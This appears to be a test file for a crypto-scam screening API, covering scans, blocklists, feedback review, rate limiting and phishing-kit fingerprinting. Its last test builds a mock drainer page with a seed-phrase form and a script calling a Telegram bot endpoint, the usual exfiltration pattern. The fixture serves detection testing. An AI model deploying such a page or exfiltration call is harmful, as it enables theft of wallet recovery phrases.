import t from 'tap';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { startTestServer } from '../helpers/app.ts';
import { adminCommands } from '../../src/app/admin-commands.ts';
import { parseList } from '../../src/screening/lists/parse-list.ts';

const DATA = path.resolve(import.meta.dirname, '../../../shared/datasets/screening');

t.test('v1 screening scan and feedback through the real app', async (t) => {
  const srv = await startTestServer({ background: false });
  t.teardown(() => srv.close());
  const growth = await srv.key('sec', 'growth');
  const none = await srv.key('free', 'none');
  const mm = parseList('metamask', fs.readFileSync(path.join(DATA, 'metamask-eth-phishing-detect/config.json')), {
    fileName: 'config.json',
  });
  t.equal(await adminCommands['lists.insert'](srv.store.db, { ...mm }), true);
  t.equal(await adminCommands['lists.insert'](srv.store.db, { ...mm }), false, 'the same version is stored once');
  const csv = parseList(
    'csv',
    'kind,value,chain,disposition\naddress,0x00000000000000000000000000000000deadbeef,evm,block\ndomain,' +
      'evil-drop.example,,block\n',
    { name: 'ops-blocklist', version: '2026-11-01' },
  );
  await adminCommands['lists.insert'](srv.store.db, { ...csv });

  const scan = (body: unknown, key = growth) => srv.req('POST', '/api/v1/screening/scan', { key, body });
  t.match(await scan({ type: 'url', chain: 'evm', value: 'https://metamask.io' }, none), {
    status: 403,
    body: { code: 'plan_required' },
  });

  const blocked = await scan({ type: 'url', chain: 'evm', value: 'https://app.evil-drop.example/claim' });
  t.equal(blocked.status, 200);
  t.equal(blocked.body.verdict, 'block');
  t.match(blocked.body.scanId, /^scn_/);
  t.ok(
    blocked.body.findings.some(
      (f: any) => f.source.type === 'list' && f.source.name === 'ops-blocklist' && f.source.version === '2026-11-01',
    ),
    'the finding names its list and version',
  );
  t.ok(blocked.body.listsUsed.some((l: any) => l.name === 'ops-blocklist'));
  t.ok(blocked.body.metadata.sandbox, 'url scans report the sandbox');
  t.ok('scamDna' in blocked.body.metadata);

  const allowed = await scan({ type: 'url', chain: 'evm', value: 'https://metamask.io/download' });
  t.not(allowed.body.verdict, 'block', 'an allow-listed site is not blocked');

  const wallet = await scan({ type: 'wallet', chain: 'ethereum', value: '0x00000000000000000000000000000000DEADBEEF' });
  t.equal(wallet.body.verdict, 'block');
  t.match(
    await scan({ type: 'wallet', chain: 'solana', value: '0xnothing' }),
    { status: 400, body: { code: /invalid/ } },
    'an address invalid for the chain is a clear 400, never a silent allow',
  );

  for (const [value, why] of [
    ['{not json', /JSON/i],
    ['{"to":"0x1234","data":"0xzz"}', /hex/],
    ['{"to":"nobody","data":"0x095ea7b3"}', /not an address/],
    ['{"method":"wallet_sendCalls","params":[{"chainId":"0x1","calls":[]}]}', /non-empty array/],
    ['{"method":"wallet_sendCalls","params":[{"calls":[{"to":"0x1234"},{"data":"0xzz"}]}]}', /calls\[1\]: .*hex/],
  ] as const) {
    const r = await scan({ type: 'transaction', chain: 'evm', value });
    t.equal(r.status, 400, value);
    t.equal(r.body.code, 'invalid_transaction');
    t.match(r.body.error, why);
  }
  const evasion = await scan({
    type: 'transaction',
    chain: 'ethereum',
    value: '{"to":"00000000000000000000000000000000deadbeef","data":"095ea7b3","chainId":"0x0001"}',
  });
  t.equal(evasion.status, 200, 'odd encodings are screened, not refused');
  const LISTED = '0x00000000000000000000000000000000deadbeef';
  const batch = await scan({
    type: 'transaction',
    chain: 'ethereum',
    value: JSON.stringify({
      method: 'wallet_sendCalls',
      params: [
        { chainId: '0x1', calls: [{ to: '0x00000000000000000000000000000000000000aa' }, { to: LISTED, value: '0x1' }] },
      ],
    }),
  });
  t.equal(batch.body.verdict, 'block', 'a wallet_sendCalls paying a listed address in its second call');
  t.ok(batch.body.findings.some((f: any) => f.data?.callIndex === '1' && f.kind === 'tx.counterparty_blocklisted'));
  t.equal(evasion.body.verdict, 'block', 'the unprefixed address is the listed one');
  t.ok(evasion.body.findings.some((f: any) => f.kind === 'tx.nonstandard_encoding'));
  for (const body of [
    { type: 'email', chain: 'evm', value: 'x' },
    { type: 'url', chain: 'EVM', value: 'https://x.io' },
    { type: 'url', chain: 'evm' },
    { type: 'url', chain: 'evm', value: 'https://x.io', extra: 1 },
    { type: 'url', chain: 'dogechain', value: 'https://x.io' },
  ]) {
    t.equal((await scan(body)).status, 400, JSON.stringify(body));
  }

  const fb = (body: unknown) => srv.req('POST', '/api/screening/feedback', { body });
  const ok = await fb({
    scanId: blocked.body.scanId,
    verdict: 'false_positive',
    reason: 'this is our own staging site',
  });
  t.match(ok, { status: 201, body: { status: 'queued_for_review', verdict: 'false_positive' } });
  const queue = (await adminCommands['feedback.list'](srv.store.db, { status: 'open' })) as any[];
  t.match(
    queue,
    [
      {
        id: ok.body.feedbackId,
        scanId: blocked.body.scanId,
        verdict: 'false_positive',
        reason: 'this is our own staging site',
        status: 'open',
        scan: { type: 'url', verdict: 'block' },
      },
    ],
    'the report waits in the review queue with its scan',
  );
  t.same(await adminCommands['feedback.resolve'](srv.store.db, { feedbackId: queue[0].id, status: 'rejected' }), {
    feedbackId: queue[0].id,
    status: 'rejected',
  });
  t.same(
    await adminCommands['feedback.list'](srv.store.db, { status: 'open' }),
    [],
    'a resolved report leaves the open queue',
  );
  t.match(await adminCommands['feedback.list'](srv.store.db, { status: 'rejected' }), [{ id: queue[0].id }]);
  await t.rejects(
    adminCommands['feedback.resolve'](srv.store.db, { feedbackId: queue[0].id, status: 'accepted' }),
    { code: 'feedback_not_found' },
    'only open feedback is resolved',
  );
  await t.rejects(adminCommands['feedback.list'](srv.store.db, { status: 'maybe' }), { code: 'validation_failed' });
  t.match(await fb({ scanId: 'scn_missing', verdict: 'false_positive', reason: 'x' }), {
    status: 404,
    body: { code: 'scan_not_found' },
  });
  t.match(await fb({ scanId: blocked.body.scanId, verdict: 'meh', reason: 'x' }), { status: 400 });
  t.match(await fb({ scanId: blocked.body.scanId, verdict: 'scam_report', reason: 'x'.repeat(2001) }), { status: 400 });
  t.match(
    await fb({ scanId: blocked.body.scanId, verdict: 'scam_report', reason: 'x', pad: 'p'.repeat(20_000) }),
    { status: 413, body: { code: 'payload_too_large' } },
    'a feedback body over 16 KiB is refused before it is parsed',
  );
  let limited = null;
  // malformed reports count against the limit too: 40 of them exhaust it
  for (let i = 0; i < 40 && !limited; i++) {
    const r = await srv.req('POST', '/api/screening/feedback', {
      raw: '{"scanId": broken',
      headers: { 'content-type': 'application/json' },
    });
    if (r.status === 429) limited = r;
    else if (r.status !== 400) t.fail(`a malformed report answered ${r.status}`);
  }
  t.ok(limited, 'feedback is rate-limited per client');
  t.equal(limited!.body.code, 'rate_limited');
  t.ok(Number(limited!.headers.get('retry-after')) > 0);
});

t.test(
  'a hostile page (NUL in the title, an emoji cut at the title limit) is scanned and stored, not a 500',
  async (t) => {
    const pages: Record<string, string> = {
      '/nul': '<html><head><title>Claim\u0000 your airdrop</title></head><body>Connect wallet</body></html>',
      '/emoji': `<html><head><title>${'a'.repeat(199)}\u{1F381}</title></head></html>`,
    };
    const site = http.createServer((req, res) => {
      res.setHeader('content-type', 'text/html');
      res.end(pages[req.url ?? ''] ?? '');
    });
    await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
    t.teardown(() => site.close());
    // loopback pages need the unsafe setting (the fetcher refuses private addresses otherwise)
    const srv = await startTestServer({ background: false, env: { UNSAFE_ALLOW_PRIVATE_SCAN_TARGETS: '1' } });
    t.teardown(() => srv.close());
    const key = await srv.key('pages', 'growth');
    for (const path of Object.keys(pages)) {
      const r = await srv.req('POST', '/api/v1/screening/scan', {
        key,
        body: {
          type: 'url',
          chain: 'evm',
          value: `http://127.0.0.1:${(site.address() as { port: number }).port}${path}`,
        },
      });
      t.equal(r.status, 200, path);
      t.equal(r.body.metadata?.sandbox?.fetched, true, path);
      const fb = await srv.req('POST', '/api/screening/feedback', {
        body: { scanId: r.body.scanId, verdict: 'scam_report', reason: 'drainer page' },
      });
      t.equal(fb.status, 201, `${path}: the scan was stored`);
    }
  },
);

t.test('kit memory: a kit blocked with wallet lures is recognised on other hosts', async (t) => {
  const inputs = Array.from({ length: 12 }, (_, i) => `<input type="text" name="w${i + 1}">`).join('');
  const kitPage = (receiver: string) =>
    `<html><head><title>Restore</title><script>const ` +
    `r='${receiver}';fetch('https://api.telegram.org/bot123:abc/sendMessage')</script></head>` +
    `<body><h2>Enter your 12-word recovery phrase to restore your ` +
    `wallet</h2><form>${inputs}<button>Restore</button></form></body></html>`;
  const plain = '<html><head><title>Blog</title><script>console.log(1)</script></head><body><p>hello</p></body></html>';
  // three loopback hosts (127.0.0.1-3) serving the same kit with a different receiver address each
  const sites = await Promise.all(
    [1, 2, 3].map(async (n) => {
      const site = http.createServer((req, res) => {
        res.setHeader('content-type', 'text/html');
        res.end(req.url === '/plain' ? plain : kitPage('0x' + String(n).repeat(40)));
      });
      await new Promise<void>((resolve) => site.listen(0, `127.0.0.${n}`, resolve));
      t.teardown(() => site.close());
      return `http://127.0.0.${n}:${(site.address() as { port: number }).port}`;
    }),
  );
  const srv = await startTestServer({ background: false, env: { UNSAFE_ALLOW_PRIVATE_SCAN_TARGETS: '1' } });
  t.teardown(() => srv.close());
  const key = await srv.key('kits', 'growth');
  const scan = async (url: string) =>
    (await srv.req('POST', '/api/v1/screening/scan', { key, body: { type: 'url', chain: 'evm', value: url } })).body;
  const known = (r: any) => r.findings.find((f: any) => f.kind === 'page.known_kit');

  const first = await scan(`${sites[0]}/claim`);
  t.equal(first.verdict, 'block', 'the kit page itself is blocked (recovery-phrase form)');
  t.equal(known(first), undefined, 'nothing is known about a kit seen for the first time');
  t.equal(known(await scan(`${sites[0]}/other-path`)), undefined, 'the same host again is not a new domain');
  const second = await scan(`${sites[1]}/claim`);
  t.equal(
    second.metadata.scamDna.fingerprint,
    first.metadata.scamDna.fingerprint,
    'a new receiver address keeps the fingerprint',
  );
  t.match(
    known(second),
    { severity: 'high', source: { type: 'heuristic', name: 'page.known_kit' }, data: { otherHosts: 1 } },
    'recognised on a second host',
  );
  t.match(
    known(await scan(`${sites[2]}/claim`)),
    { severity: 'critical', data: { otherHosts: 2 } },
    'blocked on two hosts before: critical',
  );
  t.equal(known(await scan(`${sites[2]}/plain`)), undefined, 'another page on the same host is not the kit');
});
